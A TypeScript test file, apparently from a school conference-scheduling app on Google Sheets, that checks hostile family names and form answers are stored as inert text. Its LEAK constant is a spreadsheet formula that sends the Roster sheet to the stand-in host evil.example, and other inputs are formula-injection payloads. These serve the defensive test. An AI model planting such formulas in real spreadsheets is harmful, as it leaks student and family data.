/**
 * People's text that Sheets would read as a formula, on the built bundle: a family whose name and
 * availability answer begin with = + - @ is placed at once, and every cell written stays text.
 */
import { openSchool } from '../../preview/school';
import { ok, props, run } from './calls';
import type { Settings } from '../../src/shared/api';

type School = ReturnType<typeof openSchool>;

const LEAK = '=HYPERLINK("https://evil.example/?"&ENCODEURL(Roster!A1:Z999))';
const WHO =
  'Who will come? (Another trusted adult, such as a grandparent, may come in your place.)';
const TIMES = 'Which times suit you?';

/** A school whose every student's family name is a formula and first name starts with @. */
function hostileSchool(): School {
  const s = openSchool({ students: 12 });
  const roster = s.emulator.spreadsheet.sheetByName('Roster')!;
  const column = roster.values()[0]!.indexOf('Student Name') + 1;
  for (let row = 2; row <= roster.lastRow(); row++) {
    const [, first] = String(roster.cell(row, column)!.v).split(', ');
    roster.put(row, column, { v: `${LEAK}, @${first}`, nf: '@' });
  }
  run(s, 'setup');
  const view = ok<{ settings: Settings }>(s.bundle.callFromClient('getSettings', []));
  ok(s.bundle.callFromClient('saveSettings', [{ ...view.settings, placeResponses: 'at-once' }]));
  return s;
}

/** The cell as a script reads it: its formula ('' when none) and its value. */
function cellAt(s: School, sheet: string, row: number, header: string) {
  const ss = s.emulator.globals.SpreadsheetApp.getActiveSpreadsheet()!;
  const values = s.emulator.spreadsheet.sheetByName(sheet)!.values();
  const range = ss.getSheetByName(sheet)!.getRange(row, values[0]!.indexOf(header) + 1);
  return { formula: range.getFormula(), value: range.getValue() };
}

describe('placing a family at once', () => {
  it.each(['-A1+HYPERLINK("https://evil.example")', '+SUM(Roster!A1:A999)'])(
    'writes names beginning with = and @ and the answer %s as text, even where the formatting was cleared',
    (ANSWER) => {
      const s = hostileSchool();
      // A coordinator cleared the Schedule's formatting (Format > Clear formatting).
      const schedule = s.emulator.spreadsheet.sheetByName('Schedule')!;
      for (let row = 2; row <= schedule.maxRows; row++)
        for (let column = 1; column <= schedule.maxColumns; column++)
          schedule.patch(row, column, { nf: undefined });
      run(s, 'forms');
      const forms = JSON.parse(props(s).get('slc:forms')!) as {
        availability: { linkTemplate: string; choices: { label: string }[] };
      };
      const [key, code] = [...props(s)].find(([k]) => k.startsWith('slc:family-code:'))!;
      const familyId = key.slice('slc:family-code:'.length);
      s.emulator.forms.submitPrefilled(
        forms.availability.linkTemplate.replace('0000000000000000000000000000c0de', code),
        { [`${TIMES} [${forms.availability.choices[0]!.label}]`]: '1st choice', [WHO]: ANSWER },
      );
      expect(s.emulator.triggers.firings.at(-1)!.error).toBeUndefined();

      const rows = schedule.values();
      const placed = rows.findIndex((r) => r[rows[0]!.indexOf('Family ID')] === familyId) + 1;
      expect(placed).toBeGreaterThan(1);
      expect(cellAt(s, 'Schedule', placed, 'Family')).toEqual({ formula: '', value: LEAK });
      const students = cellAt(s, 'Schedule', placed, 'Students');
      expect(students.formula).toBe('');
      expect(String(students.value)).toMatch(/^@\S+ =HYPERLINK\(/);
      // The conference's day and time are still real dates, for sorting and filtering.
      expect(cellAt(s, 'Schedule', placed, 'Date').value).toBeInstanceOf(Date);
      expect(cellAt(s, 'Schedule', placed, 'Start').value).toBeInstanceOf(Date);

      const answered = s.emulator.spreadsheet.sheetByName('Availability')!.values();
      const row = answered.findIndex((r) => r[answered[0]!.indexOf('Family ID')] === familyId) + 1;
      expect(cellAt(s, 'Availability', row, 'Who Comes')).toEqual({ formula: '', value: ANSWER });
      expect(cellAt(s, 'Availability', row, 'Family')).toEqual({ formula: '', value: LEAK });
    },
  );
});
